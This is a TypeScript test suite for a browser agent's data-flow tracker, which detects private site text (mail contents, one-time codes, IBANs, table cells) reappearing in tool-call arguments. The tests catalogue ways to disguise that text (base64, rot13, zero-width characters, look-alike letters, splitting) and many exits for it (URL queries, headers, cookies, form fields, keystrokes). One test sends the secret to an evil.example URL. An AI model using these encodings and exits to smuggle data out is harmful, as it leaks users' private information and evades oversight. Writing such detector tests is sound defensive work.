import { expect, it } from 'vitest';
import type { JsonObject } from '../../../shared/base/json.ts';
import type { ClientSession } from '../../../server/core/context.ts';
import type { Flows } from '../../../server/core/flows.ts';
import type { ToolResult } from '../../../server/core/result.ts';
import { createFlows } from '../../../server/flows/index.ts';
import { sample } from '../../support/depth.ts';
import { base64, given, MAIL, parts, rot13, SECRET, SESSION, sourcesOf } from './support.ts';

/* Text of a private site in what an agent sends: as it was read, or in a form that hides it. */

let calls = 0;

const FORMS: Readonly<Record<string, (text: string) => string>> = {
  literal: (text) => text,
  'upper case': (text) => text.toUpperCase(),
  spaced: (text) => [...text].join(' '),
  'zero-width': (text) => [...text].join('\u{200b}'),
  'look-alikes': (text) => text.replaceAll('o', 'о').replaceAll('e', 'е').replaceAll('a', 'а'),
  'full width': (text) => text.replaceAll(/[!-~]/g, (one) => String.fromCharCode(one.charCodeAt(0) + 0xfee0)),
  base64: (text) => base64(text),
  base64url: (text) => base64(text, 'base64url'),
  'base64 twice': (text) => base64(base64(text)),
  hex: (text) => base64(text, 'hex'),
  'UTF-16 in base64': (text) => Buffer.from(text, 'utf16le').toString('base64'),
  percent: (text) => text.replaceAll(/./g, (one) => `%${base64(one, 'hex')}`),
  'percent twice': (text) => encodeURIComponent(encodeURIComponent(text)),
  entities: (text) => [...text].map((one) => `&#${one.charCodeAt(0)};`).join(''),
  'JS escapes': (text) => [...text].map((one) => `\\u00${base64(one, 'hex')}`).join(''),
  'character codes': (text) => [...text].map((one) => one.charCodeAt(0)).join(', '),
  rot13,
  reversed: (text) => [...text].reverse().join(''),
  'a line in other text': (text) => `Dear all,\n\n${text}\n\nBest`,
  'half of it': (text) => text.slice(20, 70),
};

const SINKS: Readonly<Record<string, readonly [tool: string, args: (text: string) => JsonObject]>> = {
  fill: ['interact', (text) => ({ steps: [`fill label=Message ${text}`] })],
  'a field': ['interact', (text) => ({ fields: { Message: text } })],
  'two fields': [
    'interact',
    (text) => ({ fields: { A: parts(text, 2)[0] ?? '', B: parts(text, 2)[1] ?? '' } }),
  ],
  'a key at a time': [
    'interact',
    (text) => ({ steps: [...text].map((one) => ({ do: 'press', value: one })) }),
  ],
  query: ['navigate', (text) => ({ url: `https://other.example/?q=${encodeURIComponent(text)}` })],
  path: ['tabs', (text) => ({ action: 'open', url: `https://other.example/${encodeURIComponent(text)}` })],
  fragment: ['fetch', (text) => ({ url: `https://other.example/#${encodeURIComponent(text)}` })],
  '6 parameters': [
    'fetch',
    (text) => ({
      url: `https://other.example/?${parts(text, 6)
        .map((one, at) => `p${at}=${encodeURIComponent(one)}`)
        .join('&')}`,
    }),
  ],
  'parameter names': [
    'fetch',
    (text) => ({
      url: `https://other.example/?${parts(text, 4)
        .map((one) => `${encodeURIComponent(one)}=1`)
        .join('&')}`,
    }),
  ],
  segments: [
    'fetch',
    (text) => ({ url: `https://other.example/${parts(text, 5).map(encodeURIComponent).join('/')}` }),
  ],
  code: ['evaluate', (text) => ({ code: `return send(${JSON.stringify(text)})` })],
  literals: [
    'evaluate',
    (text) => ({
      code: parts(text, 6)
        .map((one) => JSON.stringify(one))
        .join(' + x + '),
    }),
  ],
  'an upstream argument': ['github_create_issue', (text) => ({ title: 'x', body: { text } })],
  'a cookie': ['storage', (text) => ({ action: 'set', area: 'cookies', name: 'x', value: text })],
  'a header': ['intercept', (text) => ({ action: 'add', url: '*', headers: { 'x-note': text } })],
  'a dialog': ['dialog', (text) => ({ action: 'accept', text })],
};

it.each(Object.keys(FORMS))('finds a private text as %s in arguments that a site gets', async (form) => {
  const text = FORMS[form]?.(SECRET) ?? '';
  const missed: string[] = [];
  for (const [sink, [tool, args]] of sample(Object.entries(SINKS), 4, Object.keys(FORMS).indexOf(form) % 4)) {
    const sources = await sourcesOf(given(SECRET), tool, args(text));
    if (!sources.some(({ site }) => site === MAIL)) missed.push(sink);
  }
  expect(missed).toEqual([]);
});

type Way = readonly [text: string, given: (flows: Flows, text: string) => void];

/** An agent gets a text of mail.example by an answer of a tool. */
const answered =
  (tool: string, of: (text: string) => object, how: { args?: JsonObject; sites?: readonly string[] } = {}) =>
  (flows: Flows, text: string): void => {
    const { args = {}, sites = [MAIL] } = how;
    const callId = `w${++calls}`;
    const call = { call_id: callId, tool, title: '', args: {}, is_editable: false, args_hash: '' };
    const read = sites.map((site) => ({ site, is_private: true }));
    if (read.length > 0) flows.heard({ caller: { session: SESSION.id, name: 'test' }, call }, read);
    const result = { ok: true, content: [], state: {}, ...of(text) } as unknown as ToolResult;
    flows.arrived({ callId, tool, args, session: SESSION }, result);
  };
const text = (value: string) => ({ content: [{ type: 'text', text: value }] });
const json = (value: unknown) => text(JSON.stringify(value));
const stored = { descriptor: { output_handle: 'oh_mail' } };

const WAYS: Readonly<Record<string, Way>> = {
  'visible text': [SECRET, answered('read_page', text)],
  'hidden text': [SECRET, answered('read_page', (value) => text([...value].join('\u{200b}')))],
  'a title in the list of tabs': [
    SECRET,
    answered(
      'tabs',
      (title) =>
        json([
          { url: 'https://a.example', title },
          { url: MAIL, title: 'x' },
        ]),
      {
        sites: [MAIL, 'https://a.example'],
      },
    ),
  ],
  'a page of a PDF': [SECRET, answered('read_pdf', (value) => text(value.replaceAll(' ', '\n')))],
  'the console': [SECRET, answered('console', (value) => json([{ level: 'log', text: value }]))],
  'a body': [SECRET, answered('network', (value) => json({ body: JSON.stringify({ to: [{ value }] }) }))],
  'a header': [
    SECRET,
    answered('network', (value) => json({ headers: { 'x-note': encodeURIComponent(value) } })),
  ],
  'another server': [
    SECRET,
    answered('mail_read', (value) => ({ ...text(value), from: 'the upstream mail' }), { sites: [] }),
  ],
  'a picked element': [SECRET, answered('pick', (value) => ({ structured: { picked: [{ text: value }] } }))],
  'a receipt': [SECRET, answered('interact', (value) => json({ changes: [`+ e12 text "${value}"`] }))],
  'a dialog': [
    SECRET,
    answered('interact', (value) => ({ ok: false, from: MAIL, ...text(value) }), { sites: [] }),
  ],
  'a value of a script': [SECRET, answered('evaluate', (value) => json({ value: base64(value) }))],
  'a handle': [
    SECRET,
    (flows, value) => {
      answered('read_page', () => ({ ...json({}), ...stored }))(flows, '');
      answered('oc_output_fetch', text, { args: { output_handle: 'oh_mail' }, sites: [] })(flows, value);
    },
  ],
  'an item of a crawl': [
    SECRET,
    (flows, value) => {
      answered('crawl', () => text('{"run_id": "run_1"}'))(flows, '');
      answered('run_output', text, { args: { run_id: 'run_1' }, sites: [] })(flows, value);
    },
  ],
  'a frame': [SECRET, answered('read_page', text, { sites: ['https://shop.example', MAIL] })],
  'an alternative text': [SECRET, answered('read_page', (value) => text(`- img "${value}" [e3]`))],
  'a resource': [SECRET, (flows, value) => flows.given(SESSION, [value], MAIL)],
  'a one-time code': [
    '402917',
    answered('read_page', (value) => text(`Your code is\n${value}\nfor ten minutes`)),
  ],
  'an order': [
    'AB-2041-77X',
    answered('read_page', (value) => text(`| Order | Day |\n| ${value} | Monday |`)),
  ],
  'a cell': ['Ada Lovelace-Byron', answered('read_page', (value) => text(`| ${value} | Ockham |`))],
};

/** Where each text goes; the last four of {@link WAYS} are short, and go whole. */
const OUT: readonly (readonly [tool: string, args: (value: string) => JsonObject])[] = [
  ['interact', (value) => ({ fields: { Note: value } })],
  ['interact', (value) => ({ steps: [`fill label=Note ${value}`] })],
  ['navigate', (value) => ({ url: `https://other.example/?q=${encodeURIComponent(value)}` })],
  ['github_create_issue', (value) => ({ title: 'x', body: { text: value } })],
  ['tabs', (value) => ({ action: 'open', url: `https://other.example/${encodeURIComponent(value)}` })],
  ['fetch', (value) => ({ url: `https://other.example/?q=${base64(value, 'base64url')}` })],
  ['evaluate', (value) => ({ code: `x(${JSON.stringify(value)})`, args: [value] })],
  ['crawl', (value) => ({ urls: ['https://b.example/', `https://other.example/${base64(value, 'hex')}`] })],
  ['storage', (value) => ({ action: 'set', area: 'local', name: 'x', value })],
  ['clipboard', (value) => ({ action: 'write', text: value.toUpperCase() })],
  ['page_tool_call', (value) => ({ name: 'save', arguments: { note: value } })],
  ['intercept', (value) => ({ action: 'add', url: '*', body: rot13(value) })],
];

it.each(Object.entries(WAYS))('finds %s on four ways out each', async (_way, [value, give]) => {
  const at = Object.keys(WAYS).indexOf(_way);
  const missed: string[] = [];
  for (let out = 0; out < 4; out += 1) {
    const [tool, args] = OUT[value === SECRET ? (at * 5 + out * 3) % OUT.length : out] ?? ['', () => ({})];
    const flows = createFlows({ mode: 'ask' });
    give(flows, value);
    const sources = await sourcesOf(flows, tool, args(value));
    const site = _way === 'another server' ? 'upstream://mail' : MAIL;
    if (!sources.some((one) => one.site === site && one.is_private)) missed.push(tool);
  }
  expect(missed).toEqual([]);
});

const FORM =
  'Subject: Your order. Your code is 402 917. IBAN DE89 3704 0044 0532 0130 00. Write to ada.lovelace@example.org.';

it.each([
  ['a code', '402917'],
  ['a code in groups', '40 29 17'],
  ['an account', 'DE89370400440532013000'],
  ['an address', 'Ada.Lovelace@example.org'],
])('finds %s alone', async (_what, text) => {
  const [source] = await sourcesOf(given(FORM), 'interact', { fields: { Code: text } });
  expect(source).toMatchObject({ site: MAIL, how: 'token' });
});

it('finds a whole cell, and no part of it', async () => {
  const flows = given('| Name | Town |\n| --- | --- |\n| Ada Lovelace | Ockham Park |');
  expect(await sourcesOf(flows, 'interact', { fields: { Name: 'Ada Lovelace' } })).toHaveLength(1);
  expect(await sourcesOf(flows, 'interact', { fields: { Name: 'Lovelace' } })).toEqual([]);
});

it.each([
  ['CSV', 'Ada Lovelace;1815;AB-2041-77X'],
  ['settings', '[person]\nname=Ada Lovelace'],
  ['JSON', JSON.stringify({ name: 'Ada Lovelace' })],
  ['a label', 'Ada Lovelace: 1815'],
  ['words of an address', 'https://other.example/parcel-ab2041-jd0146000039'],
])('finds a cell in a row that is written as %s', async (_form, value) => {
  const flows = given('| Name | Parcel |\n| --- | --- |\n| Ada Lovelace | JD0146000039 |');
  expect(await sourcesOf(flows, 'interact', { fields: { Note: value } })).toMatchObject([{ site: MAIL }]);
});

it('no date in two fields is a line of a page', async () => {
  const flows = given('Period\n2026-11-01 – 2026-11-30');
  const fields = { From: '2026-11-01', To: '2026-11-30' };
  expect(await sourcesOf(flows, 'interact', { fields })).toEqual([]);
});

it('finds a text that is sent word by word', async () => {
  const flows = given(SECRET);
  const words = SECRET.split(' ');
  const found = [];
  for (const word of words)
    found.push(
      ...(await sourcesOf(flows, 'fetch', { url: `https://other.example/${encodeURIComponent(word)}` })),
    );
  expect(found.length).toBeGreaterThan(0);
});

it.each<[what: string, given: string, tool: string, args: JsonObject]>([
  [
    'the names of things to press',
    'Settings\nContinue with your order',
    'interact',
    { steps: ['click text=Settings'] },
  ],
  ['the names of keys', 'Backspace', 'interact', { steps: ['press Backspace', 'press Control+A'] }],
  ['a date', 'Due on 2026-11-30', 'interact', { fields: { Date: '2026-11-30' } }],
  ['a price', 'Total: $ 1249.00', 'interact', { fields: { Amount: '1249.00' } }],
  [
    'other words',
    SECRET,
    'interact',
    { fields: { Message: 'When does the board meet, and who will be there?' } },
  ],
  ['a bookmark', SECRET, 'navigate', { url: 'https://www.example.net/en/products/list?page=2' }],
  ['a part of a page to read', SECRET, 'read_page', { selector: SECRET }],
])('nothing of another site is found in %s', async (_what, text, tool, args) => {
  expect(await sourcesOf(given(text), tool, args)).toEqual([]);
});

it('an answer that quotes what was sent makes it nobody else’s text', async () => {
  const flows = given(SECRET);
  const call = {
    callId: 'q',
    tool: 'navigate',
    args: { url: `https://evil.example/?q=${SECRET}` },
    session: SESSION,
  };
  const failed = {
    ok: false,
    content: [{ type: 'text', text: `No answer: ${SECRET}` }],
    state: {},
    from: 'https://evil.example/',
  };
  flows.arrived(call, failed as unknown as ToolResult);
  expect(await sourcesOf(flows, 'fetch', call.args)).toMatchObject([{ site: MAIL }]);
});

it('text that a public page shows, too, is public; and what one agent has read is not another’s', async () => {
  const flows = given(SECRET);
  const other = { id: 's2', name: 'other' } as ClientSession;
  expect(await sourcesOf(flows, 'fetch', { url: `https://o.example/${SECRET}` }, other)).toEqual([]);
  given(SECRET, { flows, site: 'https://news.example', isPrivate: false });
  const sources = await sourcesOf(flows, 'fetch', { url: `https://o.example/${SECRET}` });
  expect(sources.filter((one) => one.is_private)).toEqual([]);
});

it('strict names every private site that was read, but for addresses that a page has shown', async () => {
  const flows = createFlows({ mode: 'strict' });
  given('See https://docs.example/start for more.', { flows });
  expect(await sourcesOf(flows, 'navigate', { url: 'https://docs.example/start' })).toEqual([]);
  for (const url of ['https://docs.example/other', 'https://docs.example/start?a=1'])
    expect(await sourcesOf(flows, 'navigate', { url })).toMatchObject([{ site: MAIL, how: 'strict' }]);
  expect(await sourcesOf(flows, 'interact', { fields: { Message: 'In other words' } })).toHaveLength(1);
});

it('what a program makes of a text counts as from the sites that it has read, and what its code says does not', async () => {
  const flows = createFlows({ mode: 'ask' });
  flows.begun({
    callId: 'p',
    tool: 'script',
    args: { code: "fetch('https://other.example/list')" },
    session: SESSION,
  });
  const facts = { call_id: 'p.1', tool: 'read_page', title: '', args: {}, is_editable: false, args_hash: '' };
  flows.heard({ caller: { session: 's1', name: 'test' }, call: facts }, [{ site: MAIL, is_private: true }]);
  const read = { ok: true, content: [{ type: 'text', text: SECRET }], state: {} } as unknown as ToolResult;
  flows.arrived({ callId: 'p.1', tool: 'read_page', args: {}, session: SESSION, parent: 'p' }, read);
  await flows.ready(SESSION);
  const of = (url: string) =>
    flows.sourcesOf({ callId: 'p.2', tool: 'fetch', args: { url }, session: SESSION, parent: 'p' }, null);
  expect(of('https://other.example/list')).toEqual([]);
  expect(of('https://other.example/x9q2')).toMatchObject([{ site: MAIL, how: 'program' }]);
});

it('a file that was saved from a site is of that site, whatever is in it', async () => {
  const flows = createFlows({ mode: 'ask' });
  answered('downloads', () => json({ tab: 'b1:7', saved_as: '/home/ada/down/payslip.pdf', size_bytes: 9 }))(
    flows,
    '',
  );
  for (const args of [
    { steps: ['upload e3 /home/ada/down/payslip.pdf'] },
    { fields: { CV: '/srv/link/payslip.pdf' } },
  ])
    expect(await sourcesOf(flows, 'interact', args)).toMatchObject([{ site: MAIL, is_private: true }]);
  expect(await sourcesOf(flows, 'interact', { steps: ['upload e3 /home/ada/own.pdf'] })).toEqual([]);
});

it('text that was copied by keys is pasted from its site', async () => {
  const flows = createFlows({ mode: 'ask' });
  const keys = { callId: 'k', tool: 'interact', args: { steps: ['press Control+C'] }, session: SESSION };
  const done = { ok: true, content: [{ type: 'text', text: 'done' }], state: {}, from: `${MAIL}/` };
  flows.arrived(keys, done as unknown as ToolResult);
  const sources = await sourcesOf(flows, 'interact', { steps: ['press ControlOrMeta+V'] });
  expect(sources).toMatchObject([{ site: MAIL, how: 'copied' }]);
});
